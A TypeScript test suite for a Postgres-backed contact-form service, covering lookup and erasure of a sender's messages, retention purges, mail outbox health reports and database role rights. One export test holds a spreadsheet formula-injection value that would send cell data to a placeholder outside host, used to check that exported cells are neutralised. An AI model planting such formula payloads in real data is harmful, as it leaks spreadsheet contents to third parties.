import { rm, truncate, writeFile } from "node:fs/promises";
import path from "node:path";
import postgres, { type PendingQuery, type Row } from "postgres";
import { suspiciousDays } from "#src/domain/message-periods.ts";
import { contact, eventually, infoRequest, outboxOf, post, sharedStack } from "./support.ts";

const stack = sharedStack();
beforeEach(async () => {
  // Cleanup of the last test.
  await stack.drain();
  await stack.sql`delete from contact.submissions`;
});

const write = async (changes: object) => {
  const payload = contact({ message: `Merhaba, ${crypto.randomUUID()}`, ...changes });
  expect((await post(stack, payload)).status).toBe(202);
  return payload.submissionId ?? "";
};
const problems = async () => (await stack.sql`select contact.problems() as problems`)[0]?.problems;
const found = async (person: string) =>
  (await stack.sql`select id from contact.find(${person})`).map(({ id }) => id);

describe("a person", () => {
  test("is found by e-mail address in any case", async () => {
    const id = await write({ email: "ISIL@klinik.example", phone: "" });
    await write({ email: "baska@klinik.example" });
    expect(await found(" isil@KLINIK.example ")).toEqual([id]);
    const payload = infoRequest({ email: "isil@klinik.example" });
    await post(stack, payload);
    await stack.drain();
    const [, row] = await stack.sql`select * from contact.find('isil@klinik.example')`;
    expect(row).toMatchObject({ email: "isil@klinik.example", phone: `'${payload.phone}`, mails: "sent" });
    for (const part of ["Gülüş Ağız ve Diş Sağlığı", "İlknur Işık", "Gece Plağı", "E.Max CAD Kron"])
      expect(row?.message).toContain(part);
  });

  for (const [stored, asked, isFound] of [
    ["+90 352 222 11 00", "0352 222 11 00", true],
    ["+90 (0) 352 222 11 00", "0352 222 11 00", true],
    ["0090 352 222 11 00", "03522221100", true],
    ["90 352 222 11 00", "352-222-11-00", true],
    ["0352.222.11.00", "+90 (352) 222 11 00", true],
    ["0352 222 11 00 / 15", "0352 222 11 00", true],
    ["0532 111 22 33/0352 222 11 00", "0352 222 11 00", true],
    ["Cep 0532 111 22 33 dahili 4", "0532 111 22 33", true],
    ["+49 1511 2345678", "49 1511 2345678", true],
    ["222 11 00", "2221100", true],
    ["0352 222 11 05", "0352 222 11 00", false],
    ["0252 222 11 00", "0352 222 11 00", false],
    ["222 11 00", "0352 222 11 00", false],
    ["", "0352 222 11 00", false],
  ] as const)
    test(`who wrote “${stored}” is ${isFound ? "" : "not "}found by ${asked}`, async () => {
      const id = await write({ phone: stored });
      expect(await found(asked)).toEqual(isFound ? [id] : []);
    });

  const erase = (person: string | null, ids: string[] | null = null) =>
    stack.sql`select * from contact.erase(${person}, ${ids}::uuid[])`;

  test("is shown first, then erased with the named messages and mails", async () => {
    const other = await write({ phone: "0352 222 11 05", email: "baska@klinik.example" });
    const ids = [
      await write({ phone: "0352 222 11 00 / 15", email: "baska2@klinik.example" }),
      await write({ phone: "+903522221100", email: "baska3@klinik.example" }),
    ];
    const kept = await write({ phone: "0352 222 11 00", email: "baska4@klinik.example" });
    const shown = await erase("0352 222 11 00");
    expect(shown.map(({ erased, id }) => [erased, id])).toEqual([...ids, kept].map((id) => [false, id]));
    expect(shown[0]).toMatchObject({ email: "baska2@klinik.example", phone: "0352 222 11 00 / 15" });
    // Another person's message is not erased, even if its id is given.
    const erased = await erase("0352 222 11 00", [...ids, other]);
    expect(erased.map(({ erased, id }) => [erased, id])).toEqual(ids.map((id) => [true, id]));
    const left =
      await stack.sql`select submission_id as id from contact.outbox where submission_id is not null order by id`;
    expect(left.map(({ id }) => id).sort()).toEqual([other, kept].sort());
    expect(await erase("BASKA@klinik.example", [other])).toHaveLength(1);
  });

  test("is found although domain and digits were in another script", async () => {
    const id = await write({ email: "b@müşteri.example", phone: "٠٥٣٢ ١١١ ٢٢ ٣٣" });
    expect(await found("0532 111 22 33")).toEqual([id]);
    expect(await found("b@xn--mteri-kva70e.example")).toEqual([id]);
    await expect(found("b@müşteri.example")).rejects.toThrow(/in ASCII \(xn--…\)/);
  });

  test("is not found by a pattern", async () => {
    await write({});
    expect(await found("%@klinik.example")).toEqual([]);
    expect(await found("_ukru@klinik.example")).toEqual([]);
  });

  test("is exported in cells that no table program calculates", async () => {
    const formula = '=HYPERLINK("https://kotu.example?x="&A1,"Ara") 0352 222 11 00';
    await write({ phone: formula, email: "+a@klinik.example" });
    const [row] = await stack.sql`select * from contact.find('+a@klinik.example')`;
    expect(row).toMatchObject({ phone: `'${formula}`, email: "'+a@klinik.example" });
    for (const sign of ["-", "@", "＝"]) {
      const [cell] = await stack.sql`select contact.cell(${sign}) as text`;
      expect(cell?.text).toBe(`'${sign}`);
    }
    expect(row?.message).toMatch(/^[a-z]/i);
  });

  test("is named by one address or number only", async () => {
    await write({ phone: "" });
    for (const nobody of ["", "123456", "@", "a@", null, "0532 111 22 33, 0352 222 11 00"])
      await expect(erase(nobody)).rejects.toThrow(/one e-mail address, or one telephone number/);
    expect((await stack.sql`select from contact.submissions`).length).toBe(1);
  });
});

describe("time", () => {
  const age = (id: string, days: number) =>
    stack.sql`update contact.submissions set received_at = now() - ${days} * interval '1 day' where id = ${id}`;

  for (const [days, kept] of [
    [180, [true, true, false, true, false]],
    [90, [true, false, false, true, false]],
    [14, [false, false, false, false, false]],
  ] as const)
    test(`deletes messages after ${days} days, as the function says`, async () => {
      const ids: string[] = [];
      for (const [daysAgo, extraInfo] of [
        [89.9, ""],
        [90.1, ""],
        [180.1, ""],
        // Suspicious.
        [suspiciousDays - 0.1, "x"],
        [suspiciousDays + 0.1, "x"],
      ] as const) {
        const id = await write({ extraInfo });
        await age(id, daysAgo);
        ids.push(id);
      }
      await stack.sql`select contact.note_drain(1, ${days})`;
      await stack.sql`select contact.purge()`;
      const left = (await stack.sql`select id from contact.submissions`).map(({ id }) => id);
      expect(ids.map((id) => left.includes(id))).toEqual(kept);
    });

  test("deletes what is left of daily summaries after 30 days", async () => {
    await stack.sql`insert into contact.outbox (summary_day, recipient, status)
      values (now()::date - 31, 1, 'sent'), (now()::date - 30, 1, 'sent')`;
    await stack.sql`select contact.purge()`;
    const [row] = await stack.sql`select min(summary_day) = now()::date - 30 as kept from contact.outbox`;
    expect(row?.kept).toBe(true);
  });

  /** Messages of 1,002 counted bytes with a mail in a state, the newest last. */
  const stored = async (status: string, count: number) =>
    (
      await stack.sql`
        with stored as (
          insert into contact.submissions (id, payload, received_at)
          select gen_random_uuid(), '{}', clock_timestamp() from generate_series(1, ${count}) returning id
        )
        insert into contact.outbox (submission_id, recipient, status, next_attempt_at)
        select id, 1, ${status}, 'infinity' from stored returning submission_id as id`
    ).map(({ id }) => id);
  const leftOf = async (bytes: number) => {
    await stack.sql`select contact.purge(${bytes})`;
    return (await stack.sql`select id from contact.submissions order by received_at`).map(({ id }) => id);
  };

  test("deletes the oldest messages earlier in a flood", async () => {
    const ids = [...(await stored("sent", 1)), ...(await stored("settled", 1)), ...(await stored("sent", 1))];
    expect(await leftOf(2_500)).toEqual(ids.slice(1));
  });

  for (const status of ["pending", "given_up"])
    test(`deletes ${status} messages in a flood after all others`, async () => {
      const untold = await stored(status, 3);
      const mailed = await stored("sent", 2);
      expect(await leftOf(4_500)).toEqual([...untold, mailed[1]]);
      expect(await leftOf(2_500)).toEqual(untold.slice(1));
    });

  test("keeps no trace of a sender although a message cannot be deleted", async () => {
    const id = await write({});
    await age(id, 200);
    await stack.sql`create table public.own (submission uuid references contact.submissions (id))`;
    await stack.sql`insert into public.own values (${id})`;
    await expect(stack.sql`select contact.purge()`).rejects.toMatchObject({ code: "23503" });
    expect(await problems()).toContain("unpurged");
    await stack.drain();
    const [row] = await stack.sql`select sender, network from contact.submissions`;
    expect({ ...row }).toEqual({ sender: null, network: null });
    await stack.sql`drop table public.own`;
  });
});

const status = async (number: string | null = null) => {
  const rows = await stack.sql`select item, value from contact.status(${number})`;
  return Object.fromEntries(rows.map(({ item, value }) => [item, value]));
};

test("the owner sees counts of messages and mails with reasons", async () => {
  const states = ["pending", "pending", "sent", "sent", "given_up"];
  const ids = [await write({ extraInfo: "x" })];
  while (ids.length < states.length) ids.push(await write({}));
  await stack.drain();
  expect((await status()).problems).toBe("none");
  for (const [index, state] of states.entries())
    await stack.sql`
      update contact.outbox set status = ${state}, next_attempt_at = 'infinity',
        last_error = 'SMTP: EMESSAGE DATA 451',
        queued_at = '2026-05-01 09:00'::timestamptz + ${index} * interval '1 day',
        settled_at = '2026-05-01 10:00'::timestamptz + ${index} * interval '1 day'
      where submission_id = ${ids[index] ?? ""}`;
  expect(await status()).toMatchObject({
    "messages of the last 24 hours": "5, of these 1 suspicious",
    "mails waiting": "2, the oldest since 2026-05-01 09:00:00",
    "last mail sent": "2026-05-04 10:00:00",
    "why mails to recipient 1 wait: SMTP: EMESSAGE DATA 451": "3",
    "mails given up": "1",
    "days until messages are deleted": "180",
    "last call of the scheduler": expect.stringMatching(/^\d{4}-/),
  });
});

test("a visitor's number finds what became of the message", async () => {
  const id = await write({});
  await stack.drain();
  await stack.sql`update contact.outbox set status = 'given_up', settled_at = '2026-05-01 09:00', last_error = 'why'
    where submission_id = ${id}`;
  const number = id.slice(0, 8);
  const mail = `mail of ${number} to recipient 1`;
  for (const asked of [number, number.toUpperCase(), id])
    expect(await status(asked)).toMatchObject({ [mail]: "given_up, 2026-05-01 09:00:00, why" });
  expect(await status(number.slice(0, 7))).not.toHaveProperty(mail);
  const count = async (call: PendingQuery<Row[]>) => (await call)[0]?.count;
  for (const other of ["", "%", number.slice(0, 7)]) {
    expect(await count(stack.sql`select contact.retry(${other}) as count`)).toBe(0);
    expect(await count(stack.sql`select contact.settle(${other}) as count`)).toBe(0);
  }
  expect(await count(stack.sql`select contact.retry(${number}) as count`)).toBe(1);
  // Waiting again.
  expect(await count(stack.sql`select contact.settle(${number}) as count`)).toBe(1);
  expect(await stack.drain()).toEqual({ sent: 0, failed: 0 });
});

test("while a backup is loaded nothing is stored or mailed", async () => {
  const waiting = await write({});
  await stack.drain();
  await stack.sql`update contact.outbox set status = 'pending', next_attempt_at = now()
    where submission_id = ${waiting}`;
  await stack.sql`revoke usage on schema contact from contact_function`;
  expect((await post(stack, contact())).status).toBe(503);
  await expect(stack.drain()).rejects.toThrow("503");
  await stack.sql`grant usage on schema contact to contact_function`;
  expect(await stack.drain()).toEqual({ sent: 1, failed: 0 });
  expect((await stack.sql`select id from contact.submissions`).map(({ id }) => id)).toEqual([waiting]);
});

describe("rights", () => {
  const denied = { code: "42501" };

  test("of the function's role are seven functions and no table", async () => {
    const address = new URL(stack.function.options.env.CONTACT_DATABASE_URL ?? "");
    const own = postgres(address.href, { max: 1 });
    try {
      await expect(own`select * from contact.undelivered`).rejects.toMatchObject(denied);
      for (const table of ["submissions", "outbox", "heartbeat"])
        for (const command of [`select * from contact.${table}`, `delete from contact.${table}`])
          await expect(own.unsafe(command)).rejects.toMatchObject(denied);
      const callable = await own`
        select proname from pg_proc
        where pronamespace = 'contact'::regnamespace and has_function_privilege(oid, 'execute') order by 1`;
      expect(callable.map(({ proname }) => proname)).toEqual([
        "accept",
        "claim",
        "note_drain",
        "problems",
        "record_failure",
        "record_sent",
        "record_undelivered",
      ]);
      // One second less than the function's timeout.
      expect((await own`show statement_timeout`)[0]?.statement_timeout).toBe("7s");
    } finally {
      await own.end();
    }
  });

  test("of other roles are none", async () => {
    for (const role of ["anon", "authenticated", "service_role"]) {
      const read = stack.sql.begin(async (sql) => {
        await sql.unsafe(`set local role ${role}`);
        await sql`select * from contact.submissions`;
      });
      await expect(read).rejects.toMatchObject(denied);
      const rights = await stack.sql`
        select proname from pg_proc
        where pronamespace = 'contact'::regnamespace and has_function_privilege(${role}, oid, 'execute')`;
      expect([...rights]).toEqual([]);
    }
  });

  test("withstand a caller's search path and a mistaken grant", async () => {
    const open = await stack.sql`
      select proname from pg_proc
      where pronamespace = 'contact'::regnamespace and not coalesce(proconfig @> array['search_path=""'], false)`;
    expect([...open]).toEqual([]);
    const [row] = await stack.sql`
      select bool_and(relrowsecurity) as safe from pg_class where relnamespace = 'contact'::regnamespace and relkind = 'r'`;
    expect(row?.safe).toBe(true);
  });
});

test("handing over schedules the drain and two purges", async () => {
  const { sql, addresses, keys } = stack;
  await sql.unsafe(`
    create schema vault;
    create table vault.secrets (id uuid default gen_random_uuid(), name text unique, secret text);
    create view vault.decrypted_secrets as select name, secret as decrypted_secret from vault.secrets;
    create function vault.create_secret(new_secret text, new_name text) returns void
    language sql as 'insert into vault.secrets (name, secret) values (new_name, new_secret)';
    create function vault.update_secret(uuid, text) returns void
    language sql as 'update vault.secrets set secret = $2 where id = $1';
    create schema net;
    create table net.calls (url text, headers jsonb, body jsonb, patience integer);
    create function net.http_post(url text, headers jsonb, body jsonb, timeout_milliseconds integer) returns bigint
    language sql as $$ insert into net.calls values (url, headers, body, timeout_milliseconds); select 1::bigint $$;
    create schema cron;
    create table cron.job (name text unique, schedule text, command text);
    create function cron.schedule(job_name text, schedule text, command text) returns bigint
    language sql as $$ insert into cron.job values (job_name, schedule, command) on conflict do nothing; select 1::bigint $$;
    create table cron.job_run_details (start_time timestamptz);
    insert into cron.job_run_details values (now() - interval '8 days'), (now() - interval '6 days'), (null);
  `);
  await sql`select contact.request_drain()`;
  expect((await sql`select from net.calls`).length).toBe(0);
  const { password } = new URL(stack.function.options.env.CONTACT_DATABASE_URL ?? "");
  // Once more to exchange the key.
  for (const key of ["old", keys.drain])
    await sql`select contact.hand_over(${password}, ${`${addresses.function}/drain`}, ${key})`;
  const jobs = await sql`select name, schedule, command from cron.job`;
  expect(jobs.map(({ name, schedule }) => [name, schedule])).toEqual([
    ["contact-drain", "* * * * *"],
    ["contact-purge", "23 * * * *"],
    ["contact-purge-log", "53 4 * * *"],
  ]);
  for (const { command } of jobs) await sql.unsafe(command);
  expect((await sql`select from cron.job_run_details`).length).toBe(2);
  const [asked] = await sql`select * from net.calls`;
  // Longer than a drain: 14 s of claiming, then 68 s of sending and recording.
  expect(asked?.patience).toBeGreaterThan(82_000);
  const answer = await fetch(asked?.url, {
    method: "POST",
    headers: asked?.headers,
    body: JSON.stringify(asked?.body),
  });
  expect(answer.status).toBe(200);
});

describe("the health endpoint", () => {
  test("answers monitors and browsers without a word of any message", async () => {
    await post(stack, contact({ name: "Gizli Kişi", email: "gizli@klinik.example" }));
    await stack.drain();
    const answer = await fetch(`${stack.addresses.function}/health`, { headers: { accept: "text/html" } });
    expect([answer.status, await answer.text()]).toEqual([200, '{"status":"ok","problems":[]}']);
    const head = await fetch(`${stack.addresses.function}/health`, { method: "HEAD" });
    expect([head.status, await head.text()]).toEqual([200, ""]);
    const refused = await fetch(`${stack.addresses.function}/health`, { method: "POST" });
    expect([refused.status, refused.headers.get("allow")]).toEqual([405, "GET, HEAD, OPTIONS"]);
  });

  test("reports a scheduler that does not call", async () => {
    for (const pause of ["11 minutes", null]) {
      await stack.sql`update contact.heartbeat set last_drain_at = now() - ${pause}::text::interval`;
      expect(await problems()).toEqual(["no_drain"]);
    }
    // As after a backup was loaded.
    await stack.sql`truncate contact.heartbeat`;
    expect(await problems()).toEqual(["no_drain"]);
    await stack.drain();
    expect(await problems()).toEqual([]);
  });

  /** Messages with a mail in a state, queued and settled some time ago, the newest last. */
  const mails = async (status: string, ages: readonly string[], recipient = 1) => {
    for (const age of ages)
      await stack.sql`
        with stored as (insert into contact.submissions (id, payload) values (gen_random_uuid(), '{}') returning id)
        insert into contact.outbox
          (submission_id, recipient, status, queued_at, settled_at, next_attempt_at, leased_until)
        select id, ${recipient}, ${status}, now() - ${age}::text::interval,
               case when ${status} <> 'pending' then now() - ${age}::text::interval end, 'infinity', now() from stored`;
  };

  for (const [status, problem] of [
    ["given_up", "given_up"],
    ["pending", "late"],
  ] as const) {
    test(`reports one ${status} mail only while no other is sent`, async () => {
      await mails(status, ["40 minutes"]);
      expect(await problems()).toEqual([problem]);
      await mails("sent", ["10 minutes"], 2);
      expect(await problems()).toEqual([problem]);
      await mails("sent", ["10 minutes"]);
      expect(await problems()).toEqual([]);
    });

    test(`reports three ${status} mails although others are sent`, async () => {
      await mails(status, ["40 minutes", "50 minutes"]);
      await mails("sent", ["10 minutes"]);
      expect(await problems()).toEqual([]);
      await mails(status, ["60 minutes"]);
      expect(await problems()).toEqual([problem]);
      await stack.sql`update contact.submissions set suspicion = 'links'`;
      expect(await problems()).toEqual([]);
    });
  }

  test("reports a mail that is late although others were sent before it", async () => {
    await mails("sent", ["50 minutes"]);
    await mails("pending", ["2 hours"]);
    expect(await problems()).toEqual([]);
    await mails("pending", ["40 minutes"]);
    expect(await problems()).toEqual(["late"]);
  });

  test("reports a mail that has failed for half an hour", async () => {
    stack.mailbox.setAway(true);
    const id = await write({});
    await eventually(async () => (await outboxOf(stack, id))?.failures === 1);
    stack.mailbox.setAway(false);
    await stack.sql`update contact.outbox set queued_at = now() - interval '31 minutes' where status = 'pending'`;
    expect(await problems()).toEqual(["late"]);
  });

  test("reports no single text that the mail server refuses for good", async () => {
    await mails("pending", ["40 minutes"]);
    await stack.sql`update contact.outbox set is_refused = true where status = 'pending'`;
    expect(await problems()).toEqual([]);
    await mails("pending", ["40 minutes"]);
    expect(await problems()).toEqual(["late"]);
  });

  test("reports three texts that the mail server refuses for good", async () => {
    await mails("pending", ["40 minutes", "50 minutes", "60 minutes"]);
    await stack.sql`update contact.outbox set is_refused = true where status = 'pending'`;
    expect(await problems()).toEqual(["late"]);
  });

  test("reports a daily summary that the mail server refuses for good", async () => {
    await stack.sql`insert into contact.outbox
      (summary_day, recipient, queued_at, next_attempt_at, leased_until, is_refused)
      values ('2099-01-01', 1, now() - interval '40 minutes', 'infinity', now(), true)`;
    expect(await problems()).toEqual(["late"]);
    await stack.sql`delete from contact.outbox where summary_day = '2099-01-01'`;
  });

  test("reports no mail that only waits for its share of the day", async () => {
    await mails("pending", ["2 hours", "2 hours", "2 hours"]);
    expect(await problems()).toEqual(["late"]);
    await stack.sql`select contact.retry()`;
    await stack.sql`update contact.outbox set queued_at = now() - interval '2 hours' where status = 'pending'`;
    expect(await problems()).toEqual([]);
  });

  for (const [what, change] of [
    ["a message a day after its period", "received_at = now() - interval '181 days 1 hour'"],
    ["a suspicious one, too", "suspicion = 'links', received_at = now() - interval '31 days 1 hour'"],
    ["a sender's hash after 25 hours", "sender = 's', received_at = now() - interval '25 hours 1 minute'"],
    ["a network's hash after 25 hours", "network = 'n', received_at = now() - interval '25 hours 1 minute'"],
  ] as const)
    test(`reports ${what}, if it is still there`, async () => {
      const id = await write({});
      await stack.drain();
      const within = change.replace(/(\d+) (days|hours)/, (_, count, unit) => `${count - 1} ${unit}`);
      await stack.sql.unsafe(
        `update contact.submissions set sender = null, network = null where id = '${id}'`,
      );
      await stack.sql.unsafe(`update contact.submissions set ${within} where id = '${id}'`);
      expect(await problems()).toEqual([]);
      await stack.sql.unsafe(`update contact.submissions set ${change} where id = '${id}'`);
      expect(await problems()).toEqual(["unpurged"]);
    });

  test("reports a database that takes nothing", async () => {
    await stack.sql`alter role contact_function set default_transaction_read_only = on`;
    await stack.sql`select pg_terminate_backend(pid) from pg_stat_activity where usename = 'contact_function'`;
    const health = async () => (await fetch(`${stack.addresses.function}/health`)).json();
    await eventually(async () => ((await health()) as { problems: string[] }).problems[0] === "not_storing");
    await stack.sql`alter role contact_function reset default_transaction_read_only`;
    await stack.sql`select pg_terminate_backend(pid) from pg_stat_activity where usename = 'contact_function'`;
    await eventually(async () => ((await health()) as { problems: string[] }).problems.length === 0);
    // A full disk: no more room for a row.
    await stack.sql`create function public.full_disk() returns trigger language plpgsql
      as $$ begin raise exception 'No space left' using errcode = 'disk_full'; end $$`;
    await stack.sql`create trigger full_disk before insert on contact.submissions execute function public.full_disk()`;
    expect(await problems()).toEqual(["not_storing"]);
    await stack.sql`drop trigger full_disk on contact.submissions`;
    expect(await problems()).toEqual([]);
    expect((await stack.sql`select from contact.submissions`).length).toBe(0);
  });

  test("retries a mail given up a week ago by its id only", async () => {
    await mails("given_up", ["8 days"]);
    expect(await problems()).toEqual([]);
    expect((await stack.sql`select contact.retry() as count`)[0]?.count).toBe(0);
    const [old] = await stack.sql`select submission_id as id from contact.outbox where status = 'given_up'`;
    expect((await stack.sql`select contact.retry(${old?.id}) as count`)[0]?.count).toBe(1);
  });

  test("reports a daily summary that did not arrive", async () => {
    await stack.sql`insert into contact.outbox (summary_day, recipient, status, settled_at)
      values ('2099-01-01', 1, 'given_up', now())`;
    expect(await problems()).toEqual(["given_up"]);
    await stack.sql`delete from contact.outbox where summary_day = '2099-01-01'`;
  });

  test("reports nothing that the owner has settled", async () => {
    await mails("given_up", ["1 hour", "2 hours", "3 hours"]);
    const [first] = await stack.sql`select id from contact.undelivered`;
    expect((await stack.sql`select contact.settle(${first?.id}) as count`)[0]?.count).toBe(1);
    expect((await stack.sql`select contact.settle(${first?.id}) as count`)[0]?.count).toBe(0);
    expect((await stack.sql`select from contact.undelivered`).length).toBe(2);
    expect(await problems()).toEqual(["given_up"]);
    expect((await stack.sql`select contact.settle() as count`)[0]?.count).toBe(2);
    expect(await problems()).toEqual([]);
    expect((await stack.sql`select contact.retry() as count`)[0]?.count).toBe(0);
    expect((await stack.sql`select contact.retry(${first?.id}) as count`)[0]?.count).toBe(1);
  });

  test("reports a database that is filling up", async () => {
    // A sparse file: long, but without disk use.
    const [outbox] = await stack.sql`select pg_relation_filepath('contact.outbox') as path`;
    const filler = path.join(stack.database.folder, path.dirname(outbox?.path), "filler");
    await writeFile(filler, "");
    const sizes: unknown[] = [];
    for (const bytes of [300_000_000, 350_000_000]) {
      await truncate(filler, bytes);
      sizes.push(await problems());
    }
    await rm(filler);
    expect(sizes).toEqual([[], ["filling"]]);
  });

  test("reports callers without an address", async () => {
    await fetch(stack.addresses.function, {
      method: "POST",
      headers: { apikey: stack.keys.publishable },
      body: JSON.stringify(contact()),
    });
    expect(await problems()).toEqual(["no_client_address"]);
  });
});
